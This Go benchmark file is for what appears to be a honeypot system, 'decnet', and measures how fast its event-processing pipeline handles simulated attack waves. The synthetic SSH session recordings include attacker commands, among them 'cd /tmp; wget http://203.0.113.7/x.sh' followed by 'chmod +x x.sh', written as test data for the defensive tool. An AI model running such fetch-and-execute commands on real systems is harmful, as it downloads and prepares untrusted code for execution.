package node_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"runtime/debug"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/decnet-go/decnet/internal/bus"
	"github.com/decnet-go/decnet/internal/decky"
	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/event/eventtest"
	"github.com/decnet-go/decnet/internal/intel"
	"github.com/decnet-go/decnet/internal/node"
	"github.com/decnet-go/decnet/internal/testkit"
)

// BenchmarkWholePipeline measures the pipeline as `decnet up` runs it:
// events published on the bus, then ingest, TTP tagging and every
// intelligence stage (BEHAVE over real recordings, attribution, hashes and
// intel, loot, clustering) consuming them durably, until every durable
// consumer of the event stream has acknowledged everything. events/s is
// b.N over that whole time.
//
// Two mixes, both eventtest.AttackWave (connect, three password guesses,
// four commands, disconnect per session, over ssh, http and telnet on eight
// deckies, a new address per session): "sessions" adds, per ssh session,
// the client's KEXINIT fingerprint and a session_recorded event naming an
// asciicast recording on disk (BEHAVE and attribution work per session);
// "bruteforce" is the wave alone.
//
// A third, "backlog", is the bruteforce wave already on the bus when the
// node restarts after an outage: the clock runs from the restart to
// drained, so it measures the pipeline without the deckies' publishing
// beside it.
//
//	go test -run '^$' -bench WholePipeline -benchtime 100000x ./internal/node/
func BenchmarkWholePipeline(b *testing.B) {
	b.Run("sessions", func(b *testing.B) { benchPipeline(b, true) })
	b.Run("bruteforce", func(b *testing.B) { benchPipeline(b, false) })
	b.Run("backlog", benchBacklog)
}

func benchBacklog(b *testing.B) {
	old := debug.SetGCPercent(100)
	node.TuneGC()
	defer debug.SetGCPercent(old)
	events := eventtest.AttackWave(b.N)
	cfg, js := queuedWhileDown(b, events)
	b.ResetTimer()
	cpu0 := cpuTime()
	start := time.Now()
	testkit.StartConfig(b, cfg)
	waitAllConsumed(b, js)
	b.StopTimer()
	b.ReportMetric(float64(len(events))/time.Since(start).Seconds(), "events/s")
	b.ReportMetric(float64((cpuTime()-cpu0).Microseconds())/float64(len(events)), "cpu-µs/event")
}

// queuedWhileDown gives a node's configuration and the JetStream of its bus
// once events are queued for it while it is down. The bus runs on its own,
// as an external NATS would; a first start made the node's database (and
// admin account) and its consumers, as before an outage.
func queuedWhileDown(tb testing.TB, events []event.Event) (node.Config, jetstream.JetStream) {
	tb.Helper()
	ctx := context.Background()
	bs, err := bus.Open(ctx, bus.Options{DataDir: tb.TempDir(), Listen: "127.0.0.1:0"})
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(bs.Close) // after the node's own cleanup: it stops first
	cfg := node.Config{Fleet: []decky.Decky{}, Intel: &intel.Config{Enabled: false}, NATSURL: "nats://" + bs.ListenAddr(), DataDir: tb.TempDir()}
	testkit.StartConfig(tb, cfg).Stop()
	em := bs.NewEmitter(len(events))
	for _, e := range events {
		em.Emit(e)
	}
	em.Close(ctx)
	js, err := jetstream.New(bs.Conn())
	if err != nil {
		tb.Fatal(err)
	}
	return cfg, js
}

func benchPipeline(b *testing.B, recorded bool) {
	// As `decnet up` runs (cmd/decnet calls node.TuneGC too).
	old := debug.SetGCPercent(100)
	node.TuneGC()
	defer debug.SetGCPercent(old)
	s := testkit.StartConfig(b, node.Config{Fleet: []decky.Decky{}, Intel: &intel.Config{Enabled: false}})
	events := wholePipelineMix(b, s.DataDir, b.N, recorded)
	ctx := context.Background()
	js, err := jetstream.New(s.Node.Bus.Conn())
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	cpu0 := cpuTime()
	start := time.Now()
	// The deckies' emitter: it groups already-queued events of one
	// subject into one bus message.
	em := s.Node.Bus.NewEmitter(len(events))
	for _, e := range events {
		em.Emit(e)
	}
	em.Close(ctx)
	published := time.Since(start)
	waitAllConsumed(b, js)
	b.StopTimer()
	elapsed := time.Since(start)
	b.ReportMetric(float64(len(events))/elapsed.Seconds(), "events/s")
	b.ReportMetric(float64(len(events))/published.Seconds(), "published/s")
	// CPU time of the whole process per event: what the pipeline costs,
	// whatever else the machine is doing.
	b.ReportMetric(float64((cpuTime()-cpu0).Microseconds())/float64(len(events)), "cpu-µs/event")
	if fi, err := os.Stat(filepath.Join(s.DataDir, "decnet.db-wal")); err == nil {
		b.ReportMetric(float64(fi.Size())/1e6, "walMB")
	}
	if fi, err := os.Stat(filepath.Join(s.DataDir, "decnet.db")); err == nil {
		b.ReportMetric(float64(fi.Size())/1e6, "dbMB")
	}
}

// wholePipelineMix is n events of the attack wave with, when recorded,
// after each ssh session its hassh fingerprint and recording.
func wholePipelineMix(tb testing.TB, dataDir string, n int, recorded bool) []event.Event {
	tb.Helper()
	if !recorded {
		return eventtest.AttackWave(n)
	}
	for d := 1; d <= 8; d++ {
		dir := filepath.Join(dataDir, "deckies", fmt.Sprintf("decky-%02d", d), "ssh", "transcripts")
		if err := os.MkdirAll(dir, 0o750); err != nil {
			tb.Fatal(err)
		}
		for r := range 4 {
			cast := benchRecording(0.08+0.05*float64(r), "uname -a", "cat /proc/cpuinfo", "cd /tmp; wget http://203.0.113.7/x.sh", "chmod +x x.sh")
			if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("r%d.cast", r)), []byte(cast), 0o640); err != nil {
				tb.Fatal(err)
			}
		}
	}
	out := make([]event.Event, 0, n+n/4)
	for i, e := range eventtest.AttackWave(n) {
		out = append(out, e)
		if e.Service != "ssh" {
			continue
		}
		switch e.Type {
		case event.TypeConnect:
			h := e
			h.ID, h.Type = event.NewID(), "handshake"
			h.Fields = map[string]any{"client_version": "SSH-2.0-libssh_0.9.6", "hassh": fmt.Sprintf("%032x", i%7)}
			out = append(out, h)
		case event.TypeDisconnect:
			r := e
			r.ID, r.Type = event.NewID(), "session_recorded"
			r.Fields = map[string]any{"stored_as": fmt.Sprintf("transcripts/r%d.cast", i%4), "sid": e.Session, "tty": true}
			out = append(out, r)
		}
	}
	return out
}

// benchRecording is an asciicast v2 recording of commands typed with gap
// seconds between keys.
func benchRecording(gap float64, commands ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `{"version":2,"width":120,"height":40,"timestamp":%d,"env":{"SHELL":"/bin/bash","TERM":"xterm"}}`+"\n", time.Now().Unix()-60)
	at := 0.5
	fmt.Fprintf(&b, "[%.3f,\"o\",%q]\n", at, "root@host:~# ")
	for _, c := range commands {
		at += 1.2
		for i, r := range c + "\r" {
			fmt.Fprintf(&b, "[%.3f,\"i\",%q]\n", at, string(r))
			at += gap * (1 + float64(i%3)/3)
		}
		fmt.Fprintf(&b, "[%.3f,\"o\",%q]\n", at+0.05, "\r\noutput\r\nroot@host:~# ")
	}
	return b.String()
}

// cpuTime is the user and system CPU time of the process so far.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &ru) != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// waitAllConsumed waits until every durable consumer of the event stream
// has acknowledged every event.
func waitAllConsumed(tb testing.TB, js jetstream.JetStream) {
	tb.Helper()
	ctx := context.Background()
	deadline := time.Now().Add(10 * time.Minute)
	for time.Now().Before(deadline) {
		st, err := js.Stream(ctx, bus.StreamName)
		if err != nil {
			tb.Fatal(err)
		}
		left, consumers := uint64(0), 0
		var per []string
		for info := range st.ListConsumers(ctx).Info() {
			left += info.NumPending + uint64(info.NumAckPending)
			consumers++
			per = append(per, fmt.Sprintf("%s=%d+%d", info.Name, info.NumPending, info.NumAckPending))
		}
		if os.Getenv("DECNET_BENCH_TRACE") != "" && time.Now().UnixMilli()%1000 < 20 {
			tb.Logf("%s", strings.Join(per, " "))
		}
		if consumers > 0 && left == 0 {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	tb.Fatal("the pipeline did not drain in 10 minutes")
}
